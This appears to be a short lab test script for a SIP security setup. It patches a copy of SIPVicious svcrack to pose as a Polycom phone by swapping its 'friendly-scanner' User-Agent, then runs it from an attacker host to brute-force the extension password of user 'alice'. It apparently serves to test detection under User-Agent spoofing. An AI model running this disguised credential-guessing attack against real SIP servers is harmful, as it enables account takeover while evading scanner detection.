# svcrack that calls itself a phone: a copy of the tool with another User-Agent.
hosts proxy alice mallory
outside mallory 198.18.0.66 proxy alice
kamailio_start proxy
register alice
mkdir "$LAB_TMP/forged"
cp -r /usr/share/sipvicious/sipvicious "$LAB_TMP/forged/"
grep -rl friendly-scanner "$LAB_TMP/forged" | grep 'py$' | xargs sed -i 's/friendly-scanner/PolycomVVX-VVX_411-UA/'
find "$LAB_TMP/forged" -name __pycache__ -prune -exec rm -r {} +
seq 1000 1011 >"$LAB_TMP/words"
tap
in_host mallory env PYTHONPATH="$LAB_TMP/forged" HOME="$LAB_TMP" timeout 60 python3 -B -c \
    'from sipvicious.svcrack import main; main()' -P 5061 -x 198.18.0.66 -u alice -d "$LAB_TMP/words" \
    --domain lab.example 10.9.0.10 >"$LAB_TMP/forged.log" 2>&1 </dev/null || :
PACKED=yes
